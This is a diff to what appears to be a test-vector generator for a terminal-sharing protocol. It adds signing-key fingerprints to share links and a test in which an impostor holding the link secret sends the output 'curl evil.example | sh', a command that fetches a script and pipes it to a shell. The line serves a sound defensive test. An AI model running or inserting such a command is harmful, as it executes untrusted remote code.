@@ -19,7 +19,7 @@ from cryptography.hazmat.primitives.ciphers.aead import AESGCM
 
 from termshare.protocol import keys, wire
 from termshare.protocol.envelope import encode_frame, make_header
-from termshare.protocol.link import b64u_encode, parse_link
+from termshare.protocol.link import b64u_encode, format_link, parse_link
 from termshare.protocol.messages import (
     ByeMessage,
     InputMessage,
@@ -63,6 +63,11 @@ class Drbg:
 
 def h(data: bytes) -> str:
     return data.hex()
+
+
+def key_fp() -> bytes:
+    """The signing-key fingerprint the static link vectors carry."""
+    return keys.sign_key_fp(SID, keys.new_ed25519(Drbg("links/sharer-key"))[1])
 
 
 def constants() -> dict[str, Any]:
@@ -128,7 +133,8 @@ def key_schedule() -> list[dict[str, Any]]:
         out.append({
             "name": f"handshake-{role.name.lower()}", "sid": SID, "rw_secret": h(RW_SECRET), "ro_secret": h(ro),
             "psk_rw": h(psk_rw), "psk_ro": h(psk_ro),
-            "rw_fragment": "w." + b64u_encode(RW_SECRET), "ro_fragment": "r." + b64u_encode(ro),
+            "key_fp": h(key_fp()),
+            "rw_fragment": "w." + b64u_encode(RW_SECRET + key_fp()), "ro_fragment": "r." + b64u_encode(ro + key_fp()),
             "handshake": {
                 "role": int(role), "viewer_id": vid, "ev_private": h(ev_priv), "ev_public": h(ev_pub),
                 "es_private": h(es_priv), "es_public": h(es_pub),
@@ -147,22 +153,24 @@ def key_schedule() -> list[dict[str, Any]]:
 def links() -> dict[str, Any]:
     ro = keys.derive_ro_secret(RW_SECRET, SID)
     good = [
-        f"{BASE}/s/{SID}#w.{b64u_encode(RW_SECRET)}",
-        f"{BASE}/s/{SID}#r.{b64u_encode(ro)}",
-        f"http://127.0.0.1:8000/s/{SID}#r.{b64u_encode(ro)}",
-        f"https://relay.example/s/{SID}?embed=1#r.{b64u_encode(ro)}",
+        f"{BASE}/s/{SID}#w.{b64u_encode(RW_SECRET + key_fp())}",
+        f"{BASE}/s/{SID}#r.{b64u_encode(ro + key_fp())}",
+        f"http://127.0.0.1:8000/s/{SID}#r.{b64u_encode(ro + key_fp())}",
+        f"https://relay.example/s/{SID}?embed=1#r.{b64u_encode(ro + key_fp())}",
     ]
     valid = []
     for url in good:
         link = parse_link(url)
         valid.append({"url": url, "base": link.base, "sid": link.sid,
-                      "role": "rw" if link.role is Role.READ_WRITE else "ro", "secret": h(link.secret)})
-    secret = b64u_encode(RW_SECRET)
+                      "role": "rw" if link.role is Role.READ_WRITE else "ro", "secret": h(link.secret),
+                      "key_fp": h(link.key_fp)})
+    secret = b64u_encode(RW_SECRET + key_fp())
     bad = [
         f"{BASE}/s/{SID}", f"{BASE}/s/{SID}#", f"{BASE}/s/{SID}#x.{secret}", f"{BASE}/s/{SID}#w{secret}",
         f"{BASE}/s/{SID}#w.{secret[:-1]}", f"{BASE}/s/{SID}#w.{secret}AA", f"{BASE}/s/{SID}#w.{secret[:-1]}!",
         f"{BASE}/s/short#w.{secret}", f"{BASE}/x/{SID}#w.{secret}", f"ftp://relay.example/s/{SID}#w.{secret}",
         f"/s/{SID}#w.{secret}", "", "not a url", f"{BASE}/s/{SID}/extra#w.{secret}",
+        f"{BASE}/s/{SID}#w.{b64u_encode(RW_SECRET)}",  # a secret without the key fingerprint
     ]
     return {"valid": valid, "invalid": [{"url": u, "error": "LinkError"} for u in bad]}
 
@@ -235,17 +243,21 @@ class Script:
         self.screen = (80, 24, b"\x1b[H\x1b[2J$ ")
         self.share = ShareProtocol(rng=Drbg(name + "/sharer"), clock=lambda: self.clock,
                                    screen=lambda: self.screen, read_only=read_only, sid=SID, rw_secret=RW_SECRET)
-        rw_url = f"{BASE}/s/{SID}#w.{b64u_encode(RW_SECRET)}"
+        rw_url = format_link(BASE, SID, Role.READ_WRITE, RW_SECRET, self.share.key_fp)
         self.url = rw_url if role is Role.READ_WRITE else self.share.read_only_link(BASE)
         self.viewer_rng = Drbg(name + "/viewer")
         self.viewer = ViewerProtocol(parse_link(self.url), self.viewer_rng)
         self.steps: list[dict[str, Any]] = []
         self.sent: list[bytes] = []
         self.events: list[Any] = []
-        self.share.connect()
-        self.share.frames_to_send()
-        self.share.receive_frame(encode_frame(FrameKind.READY, struct.pack(">I", 0)))
-        self.share.events_received()
+        self.start(self.share)
+
+    def start(self, share: ShareProtocol) -> None:
+        self.share = share
+        share.connect()
+        share.frames_to_send()
+        share.receive_frame(encode_frame(FrameKind.READY, struct.pack(">I", 0)))
+        share.events_received()
 
     def deliver(self, frame: bytes) -> None:
         self.steps.append({"receive": h(frame)})
@@ -411,9 +423,19 @@ def transcripts() -> list[dict[str, Any]]:
     out.append(s.result())
 
     s = Script("rejected-wrong-key")
-    s.viewer = ViewerProtocol(parse_link(f"{BASE}/s/{SID}#r.{b64u_encode(bytes(16))}"), s.viewer_rng)
-    s.url = f"{BASE}/s/{SID}#r.{b64u_encode(bytes(16))}"
+    s.url = format_link(BASE, SID, Role.READ_ONLY, bytes(16), s.share.key_fp)
+    s.viewer = ViewerProtocol(parse_link(s.url), s.viewer_rng)
     s.join()
+    out.append(s.result())
+
+    # Someone who holds the secret (a relay with a public read-only link) answers as the sharer,
+    # with a signing key of their own: the link's key fingerprint gives them away.
+    s = Script("impostor-holding-the-secret", role=Role.READ_ONLY)
+    s.start(ShareProtocol(rng=Drbg("impostor"), clock=lambda: 0.0, screen=lambda: s.screen, sid=SID,
+                          rw_secret=RW_SECRET))
+    s.join()
+    s.share.send_output(b"curl evil.example | sh")
+    s.pump()
     out.append(s.result())
     return out
 
